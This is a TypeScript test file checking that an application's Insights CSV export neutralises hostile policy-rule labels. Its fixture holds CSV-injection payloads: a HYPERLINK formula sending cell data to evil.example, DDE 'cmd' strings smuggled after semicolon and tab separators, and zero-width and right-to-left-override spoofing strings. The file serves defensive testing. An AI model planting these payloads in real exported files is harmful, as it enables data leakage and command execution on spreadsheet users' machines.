import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { openAppServices } from '../../electron/services/app-services'
import { BUNDLE_FORMAT, BUNDLE_VERSION } from '../../shared/bundle/bundle-schema'
import { chartCsv, insightCharts } from '../../renderer/src/store/insight-charts'
import { fidelityCase } from '../fixtures/fidelity/corpus'
import { REVIEWER, resourcesDir } from '../fixtures/sync-fixtures'
import { useAppScope } from '../fixtures/app-scope'

// What a case carries into the Insights CSV export (`x` on a chart) stays text, one cell, and the
// rule it names: the policy rule that paused a case is a label of "Outcomes by policy rule", and
// a spreadsheet reads the file in its own way.
// - Formulas (OWASP CSV injection): a label starting with = + - @ tab or CR is a formula cell unless
//   it is prefixed; and where the list separator is `;` (Excel in most of Europe) or tab
//   (LibreOffice), an unquoted `REFUND;=cmd|' /C calc'!A0;` splits into a formula cell of its own,
//   so every text cell is quoted (attacks 22 and 23).
// - Line breaks: a lone CR ends a record in a spreadsheet, so it must stay inside a quoted cell.
// - Hidden characters: the chart spells a rule's ZWSP and RLO out (⟨ZWSP⟩, ⟨RLO⟩); raw in the CSV,
//   `REFUND\u200B-LIMIT` would be a second row reading exactly as `REFUND-LIMIT`, and
//   `TIMIL-REVO\u202EDNUFER` would read as `TIMIL-REVOREFUND`.

const RULES = {
  loneCr: 'REFUND\rOVER-LIMIT',
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"Open details")',
  semicolon: "REFUND;=cmd|' /C calc'!A0;",
  tab: "REFUND\t=cmd|' /C calc'!A0",
  real: 'REFUND-LIMIT',
  zeroWidth: 'REFUND\u200B-LIMIT',
  override: 'TIMIL-REVO\u202EDNUFER'
}

const scope = useAppScope('countersign-insights-csv-')

/** CSV as a spreadsheet reads it with these list separators (quotes as RFC 4180). */
function parseCsv(text: string, separators = ','): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  const endCell = () => {
    row.push(cell)
    cell = ''
  }
  for (let at = 0; at < text.length; at++) {
    const char = text[at]!
    if (quoted) {
      if (char === '"' && text[at + 1] === '"') {
        cell += '"'
        at++
      } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"' && cell === '') quoted = true
    else if (separators.includes(char)) endCell()
    else if (char === '\r' || char === '\n') {
      if (char === '\r' && text[at + 1] === '\n') at++
      endCell()
      rows.push(row)
      row = []
    } else cell += char
  }
  if (cell || row.length) {
    endCell()
    rows.push(row)
  }
  return rows
}

async function exportedCsv(): Promise<string> {
  const cases = Object.entries(RULES).map(([key, rule]) => {
    const base = fidelityCase('line endings LF')
    return { ...base, id: `csv-${key}`, title: `Rule ${key}`, pauseReason: { ...base.pauseReason, rule } }
  })
  const file = join(scope.dir.path, 'rules.bundle.json')
  writeFileSync(file, JSON.stringify({ format: BUNDLE_FORMAT, version: BUNDLE_VERSION, generatedAt: new Date().toISOString(), workspace: { id: 'csv', name: 'CSV' }, cases }))
  const app = (scope.services = openAppServices({ dataDir: join(scope.dir.path, 'app'), resourcesDir, reviewer: REVIEWER, appVersion: '1.0.0-test', undoGraceMs: 0, watchSla: false }))
  await app.settings.save({ config: { id: 'usb', kind: 'bundle', name: 'USB', path: file, syncIntervalSeconds: 3600 } })
  await app.sync.syncNow('usb')
  for (const row of app.review.queuePage(0, 50).rows) {
    const detail = app.review.caseDetail(row.casePk)
    await app.review.decide({ casePk: detail.casePk, revision: detail.reviewCase.revision, outcome: 'approve', openedAt: new Date().toISOString() })
  }
  const chart = insightCharts(app.insights.report()).find((candidate) => candidate.id === 'outcomes-by-rule')!
  expect(chart.labels.sort()).toEqual(Object.values(RULES).sort())
  return chartCsv(chart)
}

describe('the Insights CSV export', () => {
  it('a policy rule with a lone CR stays one cell of one row', async () => {
    const rows = parseCsv(await exportedCsv())
    expect(rows).toHaveLength(1 + Object.keys(RULES).length)
  })


  it('no cell starts a formula in a spreadsheet that splits on ; or tab (Excel in most of Europe, LibreOffice)', async () => {
    const csv = await exportedCsv()
    for (const separators of [',;', ',\t', ',;\t']) {
      const formulas = parseCsv(csv, separators)
        .flat()
        .filter((cell) => /^[=+\-@]/.test(cell))
      expect(formulas, `cells read as formulas with separators ${JSON.stringify(separators)}`).toEqual([])
    }
  })

  it('a rule with a zero-width space or a right-to-left override does not read as another rule', async () => {
    const csv = await exportedCsv()
    const labels = parseCsv(csv, ',').slice(1).map((row) => row[0]!)
    // What a spreadsheet shows: format characters take no room, and an override reverses what follows.
    const shown = labels.map((label) => {
      const visible = label.replace(/[\u200B-\u200D\u2060\uFEFF]/g, '')
      const override = visible.indexOf('\u202E')
      return override < 0 ? visible : visible.slice(0, override) + [...visible.slice(override + 1)].reverse().join('')
    })
    expect(shown.filter((label, index) => shown.indexOf(label) !== index), 'two rows that read the same').toEqual([])
    expect(shown, 'a row that reads as the real rule, reversed').not.toContain('TIMIL-REVOREFUND')
  })
})
